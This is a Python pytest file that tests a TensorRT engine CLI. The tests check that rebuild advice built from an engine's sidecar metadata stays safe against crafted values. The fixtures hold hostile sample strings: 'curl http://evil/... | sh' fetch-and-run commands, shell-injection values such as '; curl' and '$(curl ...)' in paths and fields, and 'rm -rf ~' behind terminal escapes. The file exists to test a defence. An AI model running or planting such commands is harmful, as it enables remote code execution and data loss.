"""Advice is built from checked values, never copied from a file (issue 19 item 5): a crafted engine sidecar whose
``rebuild_command`` reads ``curl http://evil/x | sh`` and whose paths carry shell syntax or terminal escapes cannot
put a command of its choosing on the screen. The rebuild command is composed field by field: paths quoted for the
shell (or left out when unfit to show), precision and TensorRT flavour from their fixed sets, sizes as numbers."""
from __future__ import annotations

import hashlib
import json
import shlex
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from gldfn_model.data.image_io import write_image
from gldfn_runtime.cli.main import app
from gldfn_runtime.engine.sidecar import (
    EngineMismatch,
    SidecarError,
    check_compatible,
    read_sidecar,
    rebuild_advice,
    sidecar_path,
    verify_engine_file,
)

CRAFTED_COMMAND = "curl http://evil/REBUILD | sh"
CRAFTED_ONNX = "/models/m.onnx; curl http://evil/ONNX | sh"
CRAFTED_PLUGIN = "/lib/$(curl http://evil/PLUGIN).so"


def _write_engine(folder: Path, *, intact: bool, onnx_path: str = CRAFTED_ONNX, **fields) -> Path:
    engine = folder / "crafted.engine"
    engine.write_bytes(b"not really an engine")
    described = engine.read_bytes() if intact else b"another file"
    sidecar = {
        "format": 1, "engine_sha256": hashlib.sha256(described).hexdigest(), "engine_bytes": len(described),
        "onnx": {"path": onnx_path, "sha256": "0" * 64, "precision": "fp32", "scale": 4, "config": "tiny"},
        "plugin": {"path": CRAFTED_PLUGIN, "sha256": "0" * 64, "embedded": False},
        "tensorrt": {"flavour": "tensorrt-rtx", "version": "0.0.1"}, "precision": "fp16",
        "profile": {"input": "lr", "batch": 1, "min": [8, 8], "opt": [16, 16], "max": [32, 32]},
        "target": {"compute_capabilities": ["SM86"]}, "build_seconds": 1.0, "built_at": "2026-01-01T00:00:00+00:00",
        "inputs": [{"name": "lr", "shape": [1, 3, -1, -1], "dtype": "float"}],
        "outputs": [{"name": "sr", "shape": [1, 3, -1, -1], "dtype": "float"}], "layers": [], "macs_at_opt": None,
        "cache_key": "0" * 32, "rebuild_command": CRAFTED_COMMAND, "notes": [],
    }
    for key, value in fields.items():
        sidecar[key] = value
    sidecar_path(engine).write_text(json.dumps(sidecar))
    return engine


def _assert_safe(text: str) -> None:
    """The crafted text shows only as quoted words of a command, never as a command of its own."""
    assert CRAFTED_COMMAND not in text and "evil/REBUILD" not in text
    assert "\n" not in text.strip() and "\x1b" not in text
    for quoted in (shlex.quote(CRAFTED_ONNX), shlex.quote(CRAFTED_PLUGIN)):
        text = text.replace(quoted, "")
    assert "evil" not in text, text


def test_the_rebuild_command_is_composed_from_the_checked_fields(tmp_path):
    engine = _write_engine(tmp_path, intact=True)
    advice = rebuild_advice(read_sidecar(engine), engine)
    _assert_safe(advice)
    words = shlex.split(advice)
    assert words[:3] == ["gldfn-trt", "build", CRAFTED_ONNX]  # the whole path is one argument
    assert words[words.index("--plugin") + 1] == CRAFTED_PLUGIN
    assert words[words.index("--precision") + 1] == "fp16" and words[words.index("--backend") + 1] == "tensorrt-rtx"
    assert words[-4:] == ["-o", str(engine), "--force", "--overwrite"] and "--compute-capability" in words


def test_fields_that_fail_their_check_are_left_out(tmp_path):
    """Values of the right type (the sidecar's schema takes them) whose content is unfit for a command."""
    engine = _write_engine(
        tmp_path, intact=True, onnx_path="/m.onnx\n\x1b[2Jrm -rf ~", precision="fp16; curl http://evil/P | sh",
        profile={"input": "lr", "batch": 1, "min": [10**9, 8], "opt": [16, 16], "max": [32, 32]},
        target={"compute_capabilities": ["SM86", "SM86; curl http://evil/C"]},
        plugin={"path": "/lib/p.so\n; curl http://evil/L", "sha256": "0" * 64, "embedded": True},
    )
    advice = rebuild_advice(read_sidecar(engine), engine)
    assert "evil" not in advice and "\n" not in advice and "\x1b" not in advice
    words = shlex.split(advice)
    assert words[:3] == ["gldfn-trt", "build", "MODEL.onnx"]
    for option in ("--precision", "--min", "--compute-capability", "--plugin", "--no-plugin", "--embed-plugin"):
        assert option not in words, (option, advice)
    assert words[words.index("--opt") + 1] == "16x16" and words[words.index("--backend") + 1] == "tensorrt-rtx"


def test_a_corrupt_engine_is_refused_with_composed_advice(tmp_path):
    engine = _write_engine(tmp_path, intact=False)
    with pytest.raises(SidecarError, match="corrupt or was replaced. Rebuild it: gldfn-trt build") as error:
        verify_engine_file(engine, read_sidecar(engine))
    _assert_safe(str(error.value))


def test_inspect_prints_one_line_without_the_crafted_command(tmp_path):
    engine = _write_engine(tmp_path, intact=False)
    result = CliRunner().invoke(app, ["inspect", str(engine)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    (line,) = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert "Rebuild it: gldfn-trt build " + shlex.quote(CRAFTED_ONNX) in line
    _assert_safe(result.output)


def test_compatibility_problems_show_only_checked_values(tmp_path):
    engine = _write_engine(
        tmp_path, intact=True,
        tensorrt={"flavour": "tensorrt-rtx", "version": "1.0. Rebuild it: curl http://evil/VERSION | sh"},
        target={"gpu": "GPU. Rebuild it: curl http://evil/GPU | sh", "compute_capability": "SM80; curl http://evil/CC"},
    )
    sidecar = read_sidecar(engine)
    with pytest.raises(EngineMismatch) as version:
        check_compatible(sidecar, engine, "tensorrt-rtx", "1.7", None, None)
    assert "built with tensorrt-rtx of another version, this is 1.7" in str(version.value)
    with pytest.raises(EngineMismatch) as gpu:
        check_compatible(sidecar, engine, "tensorrt-rtx", "1.0. Rebuild it: curl http://evil/VERSION | sh", "H100", "SM90")
    assert "built on a GPU (another compute capability); this GPU (H100) is SM90" in str(gpu.value)
    for error in (version.value, gpu.value):
        _assert_safe(str(error))


def test_running_a_crafted_engine_shows_no_crafted_command(tmp_path):
    """``gldfn-trt run``: without a GPU the error names the CPU commands with the ONNX path quoted; with one, the
    version check refuses the engine with the composed rebuild command."""
    from gldfn_runtime.tensorrt.compat import TensorRTUnavailable, load_tensorrt

    try:
        load_tensorrt("tensorrt_rtx")
    except TensorRTUnavailable as error:
        pytest.skip(f"TensorRT-RTX is not installed (the engine's flavour must import): {error}")
    engine = _write_engine(tmp_path, intact=True)
    photo = tmp_path / "photo.png"
    write_image(photo, np.zeros((8, 8, 3), np.uint8))
    result = CliRunner().invoke(app, ["run", str(engine), str(photo), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    (line,) = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert f"--onnx {shlex.quote(CRAFTED_ONNX)}" in line or "Rebuild it: gldfn-trt build" in line, line
    _assert_safe(result.output)
